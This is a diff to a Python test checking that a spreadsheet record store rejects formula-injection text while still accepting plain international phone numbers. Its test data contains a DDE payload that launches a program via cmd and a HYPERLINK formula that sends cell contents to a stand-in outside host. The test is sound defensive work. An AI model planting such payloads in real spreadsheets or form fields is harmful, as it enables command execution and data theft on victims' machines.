@@ -135,7 +135,7 @@ def test_the_tool_never_puts_new_formula_text_in_a_sheet(tmp_path: Path, sheet: 
     store = SpreadsheetRecordStore(path, default_tenant="acme")
     changes = [
         # New formula-like text: refused with the reason.
-        FieldChange(Entity.CONTACT, "C1", "phone", "(415) 555-0100", "+14155550100"),
+        FieldChange(Entity.CONTACT, "C1", "phone", "(415) 555-0100", "+cmd|' /C calc'!A0"),
         FieldChange(Entity.CONTACT, "C1", "title", "CEO", '=HYPERLINK("http://x.example/?"&A1)'),
         FieldChange(Entity.CONTACT, "C2", "title", "CTO", "@SUM(1)"),
         FieldChange(Entity.CONTACT, "C2", "first_name", None, "\tTab"),
@@ -144,16 +144,19 @@ def test_the_tool_never_puts_new_formula_text_in_a_sheet(tmp_path: Path, sheet: 
         # A cell that already starts so (the team wrote it): theirs to keep changing.
         FieldChange(Entity.CONTACT, "C4", "title", "=1+1", "=2+2"),
         FieldChange(Entity.CONTACT, "C4", "phone", "-", "- none -"),
+        # A number or an international phone number runs nothing.
+        FieldChange(Entity.CONTACT, "C2", "phone", "+1 415 555 0101", "+14155550101"),
     ]
     results = store.apply_changes("acme", changes).results
     outcomes = [r.outcome for r in results]
-    assert outcomes == [Outcome.REJECTED] * 4 + [Outcome.APPLIED] * 3
+    assert outcomes == [Outcome.REJECTED] * 4 + [Outcome.APPLIED] * 4
     assert results[0].reason == (
         "not written: a sheet cell starting with '+' is run as a formula by spreadsheet programs"
     )
     rows = store.snapshot("acme", Entity.CONTACT).set_index("id")
     assert rows.at["C1", "phone"] == "(415) 555-0100" and rows.at["C1", "title"] == "CEO"
     assert rows.at["C3", "phone"] == "+1 415 555 0101" and rows.at["C4", "title"] == "=2+2"
+    assert rows.at["C2", "phone"] == "+14155550101"
 
 
 def _workbook_of_text(path: Path, sheets: dict[str, pd.DataFrame]) -> None:
